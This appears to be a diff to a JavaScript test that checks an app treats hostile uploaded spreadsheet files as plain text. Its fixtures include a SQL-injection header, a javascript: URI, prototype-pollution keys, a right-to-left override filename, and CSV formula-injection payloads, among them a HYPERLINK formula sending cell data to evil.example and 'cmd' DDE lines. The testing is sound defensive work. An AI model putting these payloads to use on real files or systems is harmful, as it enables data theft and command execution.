@@ -25,7 +25,7 @@ const HEADERS = [
   'constructor',
   '"; drop table delivery; --',
   'javascript:window.__pwned=2',
-  '‮gpj',
+  '\u202egpj',
 ];
 const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', '@SUM(1+1)', "+1+cmd|' /C calc'!A0", '-2+3+cmd|x', '＝1+1'];
 const CELL_LETTERS = 10_000_000;
@@ -117,14 +117,16 @@ test('nothing of a hostile file is run, reaches another or stops the page', { ti
   // Everything came in as what it is: text, under its own name.
   expect(await text(`SELECT campaign FROM delivery WHERE campaign = '${RUN(3)}' LIMIT 1`)).toBe(RUN(3));
   const kept = await text("SELECT props FROM delivery WHERE props LIKE '%drop table delivery%' LIMIT 1");
-  for (const name of HEADERS) expect(kept).toContain(JSON.stringify(name).slice(1, -1));
+  // The screen draws no marks that turn the direction of what follows.
+  for (const name of HEADERS) expect(kept).toContain(JSON.stringify(name.replace('\u202e', '')).slice(1, -1));
   expect(await text("SELECT string_agg(props, '') FROM events WHERE user_id = 'u1'")).toMatch(
     /"__proto__\.polluted":[\s\S]*"constructor\.prototype\.polluted":2/,
   );
-  expect(await text('SELECT max(length(props)) > 10000000 FROM delivery WHERE props LIKE \'{"Notes"%\'')).toBe('true');
-  expect(await text("SELECT props LIKE '%extra 19999%' FROM delivery WHERE props LIKE '%extra 0\"%' LIMIT 1")).toBe(
-    'true',
-  );
+  const notes = 'SELECT max(length(props)) > 10000000 FROM delivery WHERE contains(props, \'"Notes":\')';
+  expect(await text(notes)).toBe('true');
+  // A table so wide is no report that is known: what it is taken for is asked about.
+  const last = "SELECT props LIKE '%extra 19999%' FROM events WHERE contains(props, 'extra 0') LIMIT 1";
+  expect(await text(last)).toBe('true');
 
   const exported = await readFile(await studio.export('delivery'), 'utf8');
   for (const formula of FORMULAS) expect(exported).toContain(`'${formula.replaceAll('"', '""')}`);
